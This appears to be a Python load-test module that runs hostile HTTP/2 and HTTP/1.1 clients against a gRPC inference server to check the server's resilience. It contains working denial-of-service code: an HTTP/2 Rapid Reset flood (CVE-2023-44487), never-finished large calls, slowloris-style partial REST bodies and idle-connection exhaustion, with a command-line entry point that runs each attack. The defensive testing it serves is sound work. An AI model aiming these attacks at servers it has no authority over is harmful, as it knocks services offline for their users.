"""Hostile clients, speaking raw HTTP/2 where a gRPC library would refuse to misbehave.

The attacks of issue 15's table, each an async function the integration tests (``tests/integration/
test_hostile.py``) and the soak (``loadtest/soak.py``) run against a real server:

* :func:`unfinished_calls`: many calls on one connection, each declaring a large message and sending as
  much of it as the server lets in, never finishing it.
* :func:`rapid_resets`: open a call and reset it at once, over and over (CVE-2023-44487).
* :func:`idle_connections`: open TCP connections and never speak.
* :func:`slow_bodies`: HTTP requests (the OIP REST ``infer`` route) that declare a large body, send some
  of it, and never finish it.

A :class:`RawH2` connection tracks what the server allowed (flow-control windows) and what it answered
(status, resets, GOAWAY), so a test can say how many bytes each call could hold before being refused.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
import struct
from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import numpy as np

CLASSIFY = "/hark.v1.Classifier/Classify"
MODEL_INFER = "/inference.GRPCInferenceService/ModelInfer"
REST_INFER = "/v2/models/tiny/infer"
STREAM = "/hark.v1.Classifier/StreamClassify"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
# Channel options for a grpc channel with a connection of its own (not shared with other channels).
OWN_CONNECTION = (("grpc.use_local_subchannel_pool", 1),)


@dataclass
class CallState:
    """One raw call: what was sent, and how the server ended it (if it did)."""

    declared: int = 0
    sent: int = 0
    status: str | None = None  # grpc-status, as sent in the trailers (or headers, for a trailers-only reply)
    message: str = ""
    reset: bool = False
    ended: bool = False


@dataclass
class RawH2:
    """One HTTP/2 connection speaking just enough gRPC to start calls and send partial messages."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    conn: h2.connection.H2Connection
    authority: str
    calls: dict[int, CallState] = field(default_factory=dict)
    goaway: bool = False
    closed: bool = False
    events: Counter[str] = field(default_factory=Counter)
    _pump: asyncio.Task[None] | None = None
    _window: asyncio.Event = field(default_factory=asyncio.Event)
    _frames: bytearray = field(default_factory=bytearray)  # the server's bytes not yet cut into frames

    @classmethod
    async def open(cls, address: str) -> RawH2:
        host, port = address.rsplit(":", 1)
        reader, writer = await asyncio.open_connection(host.strip("[]"), int(port))
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        conn = h2.connection.H2Connection(config)
        conn.initiate_connection()
        writer.write(conn.data_to_send())
        raw = cls(reader, writer, conn, address)
        raw._pump = asyncio.get_running_loop().create_task(raw._read())
        return raw

    def start_call(self, path: str, metadata: Sequence[tuple[str | bytes, str | bytes]] = ()) -> int:
        """Send a call's headers; returns its stream id."""
        stream_id = self.conn.get_next_available_stream_id()
        headers: list[tuple[str | bytes, str | bytes]] = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", self.authority),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *metadata,
        ]
        self.conn.send_headers(stream_id, headers)
        self.calls[stream_id] = CallState()
        self._flush()
        return stream_id

    def send_message_prefix(self, stream_id: int, declared: int) -> None:
        """The 5-byte gRPC message header declaring ``declared`` bytes, none of them yet."""
        self.calls[stream_id].declared = declared
        self.conn.send_data(stream_id, struct.pack(">?I", False, declared))
        self._flush()

    def send_body(self, stream_id: int, limit: int) -> int:
        """Send up to ``limit`` more bytes of the declared message, as far as the windows allow now."""
        call = self.calls[stream_id]
        if call.ended or call.reset or self.closed:
            return 0
        try:
            room = min(
                self.conn.local_flow_control_window(stream_id), self.conn.max_outbound_frame_size, limit, 1 << 20
            )
            if room <= 0:
                return 0
            self.conn.send_data(stream_id, bytes(room))
        except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError, KeyError):
            return 0
        call.sent += room
        self._flush()
        return room

    def reset(self, stream_id: int) -> None:
        with contextlib.suppress(h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
            self.conn.reset_stream(stream_id)
        self._flush()

    async def fill(self, stream_ids: Sequence[int], seconds: float, unfinished: int = 1024) -> None:
        """Keep sending every call's declared bytes but the last ``unfinished``, for ``seconds``, whenever
        the server opens a window: the message never completes."""
        loop = asyncio.get_running_loop()
        end = loop.time() + seconds
        while loop.time() < end and not self.closed:
            sent = 0
            for stream_id in stream_ids:
                call = self.calls[stream_id]
                sent += self.send_body(stream_id, call.declared - unfinished - call.sent)
            if sent == 0:
                self._window.clear()
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(self._window.wait(), max(0.0, min(0.2, end - loop.time())))
            else:
                await self.writer.drain()

    async def close(self) -> None:
        if self._pump is not None:
            self._pump.cancel()
            with contextlib.suppress(asyncio.CancelledError, Exception):
                await self._pump
        self.closed = True
        self.writer.close()
        with contextlib.suppress(Exception):
            await self.writer.wait_closed()

    def _flush(self) -> None:
        if not self.closed:
            self.writer.write(self.conn.data_to_send())

    async def _read(self) -> None:
        try:
            while data := await self.reader.read(65536):
                self._scan_for_goaway(data)
                try:
                    events = self.conn.receive_data(data)
                except h2.exceptions.ProtocolError:
                    break
                for event in events:
                    self._on(event)
                self._flush()
        except (ConnectionError, OSError):
            pass
        finally:
            self.closed = True
            self._window.set()

    def _scan_for_goaway(self, data: bytes) -> None:
        """Note a GOAWAY frame in the server's bytes. h2 reports one as an event, but loses every event of a
        read in which a later frame (an RST_STREAM for a call this side reset) makes it raise."""
        self._frames += data
        while len(self._frames) >= 9:
            length = int.from_bytes(self._frames[:3], "big")
            if len(self._frames) < 9 + length:
                return
            if self._frames[3] == 0x7:  # GOAWAY
                self.goaway = True
            del self._frames[: 9 + length]

    def _on(self, event: h2.events.Event) -> None:
        self.events[type(event).__name__] += 1
        if isinstance(event, h2.events.WindowUpdated | h2.events.RemoteSettingsChanged):
            self._window.set()
        elif isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
            call = self.calls.get(event.stream_id)
            if call is not None:
                headers = {str(k): str(v) for k, v in event.headers}
                if "grpc-status" in headers:
                    call.status = headers["grpc-status"]
                    call.message = headers.get("grpc-message", "")
        elif isinstance(event, h2.events.StreamEnded):
            if (call := self.calls.get(event.stream_id)) is not None:
                call.ended = True
        elif isinstance(event, h2.events.StreamReset):
            if (call := self.calls.get(event.stream_id)) is not None:
                call.reset = True
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.goaway = True
        elif isinstance(event, h2.events.DataReceived):
            self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)


@dataclass
class AttackReport:
    """What an attack managed: calls started, bytes the server let in, and how it answered."""

    calls: int = 0
    bytes_in: int = 0
    statuses: Counter[str] = field(default_factory=Counter)
    resets: int = 0
    goaways: int = 0
    connections: int = 0

    def absorb(self, raw: RawH2) -> None:
        self.connections += 1
        self.goaways += raw.goaway
        for call in raw.calls.values():
            self.calls += 1
            self.bytes_in += call.sent
            self.resets += call.reset
            if call.status is not None:
                self.statuses[call.status] += 1


async def unfinished_calls(
    address: str,
    *,
    calls: int = 200,
    declared: int = 4_194_000,
    unfinished: int = 194_000,
    seconds: float = 2.0,
    path: str = CLASSIFY,
    metadata: Sequence[tuple[str, str]] = (),
    connections: int = 1,
) -> AttackReport:
    """``calls`` calls spread over ``connections`` connections, each declaring a ``declared``-byte message
    and sending all but its last ``unfinished`` bytes as fast as the server takes them, for ``seconds``;
    then the connections close."""
    report = AttackReport()
    raws = [await RawH2.open(address) for _ in range(connections)]
    try:
        await asyncio.sleep(0.05)  # the server's SETTINGS (its stream limit and windows) arrive
        ids: list[list[int]] = [[] for _ in raws]
        for k in range(calls):
            raw = raws[k % connections]
            if raw.closed:
                continue
            try:
                stream_id = raw.start_call(path, metadata)
                raw.send_message_prefix(stream_id, declared)
            except h2.exceptions.TooManyStreamsError:
                continue  # the server's MAX_CONCURRENT_STREAMS: a real client would wait
            ids[k % connections].append(stream_id)
        await asyncio.gather(*(raw.fill(i, seconds, unfinished) for raw, i in zip(raws, ids, strict=True)))
    finally:
        for raw in raws:
            report.absorb(raw)
            await raw.close()
    return report


async def rapid_resets(address: str, *, seconds: float = 2.0, path: str = CLASSIFY) -> AttackReport:
    """Open a call and reset it at once, as fast as the connection allows, for ``seconds``
    (reconnecting when the server closes the connection, as an attacker would)."""
    report = AttackReport()
    loop = asyncio.get_running_loop()
    end = loop.time() + seconds
    while loop.time() < end:
        raw = await RawH2.open(address)
        try:
            while loop.time() < end and not raw.closed:
                for _ in range(100):
                    try:
                        stream_id = raw.start_call(path)
                    except (h2.exceptions.TooManyStreamsError, h2.exceptions.ProtocolError):
                        break
                    raw.reset(stream_id)
                await raw.writer.drain()
                await asyncio.sleep(0)
        except (ConnectionError, OSError):
            pass
        finally:
            report.absorb(raw)
            await raw.close()
    return report


async def slow_bodies(
    host: str,
    port: int,
    *,
    requests: int = 40,
    declared: int = 4_000_000,
    sent: int = 65_536,
    wait_s: float = 5.0,
    path: str = REST_INFER,
    headers: Sequence[tuple[str, str]] = (),
) -> Counter[int]:
    """``requests`` HTTP/1.1 POSTs at once, each declaring a ``declared``-byte body, sending ``sent`` bytes of
    it and never the rest; the HTTP status each got within ``wait_s`` (0: none)."""

    async def one() -> int:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            return -1
        try:
            head = [f"POST {path} HTTP/1.1", f"Host: {host}:{port}", "Content-Type: application/json"]
            head += [f"Content-Length: {declared}", *(f"{k}: {v}" for k, v in headers)]
            writer.write(("\r\n".join(head) + "\r\n\r\n").encode() + b"{" + b" " * max(0, min(sent, declared) - 1))
            with contextlib.suppress(ConnectionError):
                await writer.drain()
            try:
                line = await asyncio.wait_for(reader.readline(), wait_s)
            except (TimeoutError, ConnectionError):
                return 0
            parts = line.split()
            return int(parts[1]) if len(parts) >= 2 and parts[1].isdigit() else 0
        finally:
            writer.close()
            with contextlib.suppress(Exception):
                await writer.wait_closed()

    return Counter(await asyncio.gather(*(one() for _ in range(requests))))


async def idle_connections(address: str, count: int) -> list[socket.socket]:
    """``count`` TCP connections that never send a byte; the caller closes them. Stops early (returns
    fewer) when the server or this process can take no more."""
    host, port = address.rsplit(":", 1)
    sockets: list[socket.socket] = []
    for _ in range(count):
        s = socket.socket(socket.AF_INET6 if ":" in host.strip("[]") else socket.AF_INET)
        s.setblocking(False)
        try:
            await asyncio.get_running_loop().sock_connect(s, (host.strip("[]"), int(port)))
        except OSError:
            s.close()
            break
        sockets.append(s)
    return sockets


# The normal stream beside an attack -------------------------------------------------------------------------


@dataclass
class NeighbourReport:
    """A real-time stream's view of the server: its status, windows, events and per-window latency."""

    code: str = ""
    details: str = ""
    windows: int = 0
    events: list[str] = field(default_factory=list)
    latencies_s: list[float] = field(default_factory=list)

    @property
    def p99_s(self) -> float:
        if not self.latencies_s:
            return float("inf")
        ordered = sorted(self.latencies_s)
        return ordered[min(len(ordered) - 1, int(0.99 * len(ordered)))]


async def neighbour(
    address: str,
    samples: np.ndarray,
    *,
    rate: int = 16_000,
    chunk_s: float = 0.1,
    metadata: Sequence[tuple[str, str]] = (),
) -> NeighbourReport:
    """Stream ``samples`` in real time (``chunk_s`` chunks at their own pace), every hop's scores asked for.

    A window's latency is from sending the chunk that completed it to receiving its scores."""
    import grpc

    from hark.core.audio import encode_pcm
    from hark.v1 import hark_pb2, hark_pb2_grpc

    step = round(chunk_s * rate)
    chunks = [encode_pcm(samples[i : i + step]) for i in range(0, samples.size, step)]
    sent_at: list[float] = []
    sent_samples: list[int] = []
    report = NeighbourReport()
    loop = asyncio.get_running_loop()

    async def requests() -> Any:
        config = hark_pb2.StreamConfig(sample_rate_hz=rate, encoding=hark_pb2.PCM_S16LE, emit_scores=True)
        yield hark_pb2.StreamRequest(config=config)
        start = loop.time()
        total = 0
        for k, pcm in enumerate(chunks):
            await asyncio.sleep(max(0.0, start + k * chunk_s - loop.time()))
            total += len(pcm) // 2
            sent_at.append(loop.time())
            sent_samples.append(total)
            yield hark_pb2.StreamRequest(audio=hark_pb2.AudioChunk(pcm=pcm))

    # A connection of its own, as a client on another host would have: grpc shares one connection between
    # channels to the same address otherwise, and the neighbour would ride on an attacker's.
    async with grpc.aio.insecure_channel(address, options=OWN_CONNECTION) as channel:
        call = hark_pb2_grpc.ClassifierStub(channel).StreamClassify(requests(), metadata=tuple(metadata))
        try:
            async for response in call:
                kind = response.WhichOneof("response")
                if kind == "scores":
                    report.windows += 1
                    end = round(response.scores.end_s * rate)
                    k = next((i for i, n in enumerate(sent_samples) if n >= end), None)
                    if k is not None:  # the tail's padded window has no chunk of its own
                        report.latencies_s.append(loop.time() - sent_at[k])
                elif kind == "event":
                    report.events.append(response.event.label)
        except grpc.aio.AioRpcError:
            pass
        report.code = (await call.code()).name
        report.details = await call.details() or ""
    return report


def main(argv: Sequence[str] | None = None) -> int:
    """``python -m loadtest.hostile {rapid-reset,unfinished,unfinished-oip} HOST:PORT SECONDS``: one attack in a
    process of its own (the soak runs them this way, so they cannot starve its other clients' event loop).
    Prints the calls made and the statuses received, as JSON."""
    import argparse

    parser = argparse.ArgumentParser(prog="python -m loadtest.hostile", description=main.__doc__)
    parser.add_argument("attack", choices=["rapid-reset", "unfinished", "unfinished-oip"])
    parser.add_argument("address", help="HOST:PORT of the server")
    parser.add_argument("seconds", type=float, help="how long the attack runs")
    args = parser.parse_args(argv)
    if args.attack == "rapid-reset":
        report = asyncio.run(rapid_resets(args.address, seconds=args.seconds))
    else:  # 20 Classify (or OIP ModelInfer) calls declaring 1 MB each, never finished
        path = MODEL_INFER if args.attack == "unfinished-oip" else CLASSIFY
        report = asyncio.run(
            unfinished_calls(
                args.address, calls=20, declared=1_000_000, unfinished=1000, seconds=args.seconds, path=path
            )
        )
    print(json.dumps({"calls": report.calls, "statuses": dict(report.statuses)}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
